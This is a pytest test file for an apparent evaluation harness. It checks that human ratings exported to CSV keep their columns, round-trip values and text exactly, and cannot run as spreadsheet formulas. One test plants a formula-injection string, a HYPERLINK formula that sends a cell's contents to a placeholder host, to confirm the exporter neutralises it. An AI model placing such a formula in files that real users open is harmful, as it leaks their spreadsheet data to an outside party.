"""Ratings as CSV: read by our own reader of data, by pandas, and safe to open."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalharness.core.cells import from_cell
from evalharness.data.delimited import read_csv
from evalharness.record import Rating
from evalharness.record.rating_csv import RATING_COLUMNS, ratings_to_csv
from evalharness.record.text import unescape

GOOD = Rating("run", "qa", "m", "s1", 0, "anna", "scale", value=4.0, created_utc="2026-01-01T00:00:00.000Z")


def read_back(text: str) -> list[Rating]:
    rows = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    return [Rating(**{name: _value(name, cell) for name, cell in row.items()}) for row in rows]


def _value(name: str, cell: str) -> Any:
    if name == "repeat":
        return int(cell)
    if name == "value":
        return float(cell) if cell else None
    return (unescape(from_cell(cell)) or None) if name in ("label", "against") else unescape(from_cell(cell))


def test_the_columns_and_a_line() -> None:
    lines = ratings_to_csv([GOOD, Rating("r", "t", "a", "s", 2, "ben", "pairwise", label="tie", against="b")]).split(
        "\n"
    )
    assert lines[0] == (
        "run_id,task,model,sample_id,repeat,rater,question,value,label,against,comment,created_utc,asked"
    )
    assert lines[1] == "run,qa,m,s1,0,anna,scale,4,,,,2026-01-01T00:00:00.000Z,"
    assert lines[2] == "r,t,a,s,2,ben,pairwise,,tie,b,,,"
    assert lines[3:] == [""]
    assert lines[0].split(",") == list(RATING_COLUMNS)
    assert ratings_to_csv([]) == lines[0] + "\n"


@pytest.mark.parametrize("value", [4.0, -1.0, 0.1 + 0.2, 1e300, 0.0])
def test_values_keep_every_digit(value: float) -> None:
    from dataclasses import replace

    assert read_back(ratings_to_csv([replace(GOOD, value=value)]))[0].value == value


@given(st.text(), st.text(), st.text(min_size=1))
def test_every_text_comes_back(sample: str, comment: str, label: str) -> None:
    rating = Rating("run", "qa", "m", sample, 0, "anna", "label", label=label, comment=comment)
    assert read_back(ratings_to_csv([rating])) == [rating]


def test_nothing_in_it_is_a_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://e.invalid?"&A1,"x")\n@y,\x00\ud800'
    rating = Rating(evil, evil, evil, evil, 0, evil, "label", label=evil, comment=evil, asked=evil)
    (tmp_path / "r.csv").write_text(ratings_to_csv([rating]), encoding="utf-8")
    (row,) = read_csv(str(tmp_path / "r.csv"))
    assert [name for name, cell in row.fields.items() if str(cell).startswith(("=", "+", "-", "@"))] == []
    assert unescape(from_cell(str(row.fields["comment"]))) == evil
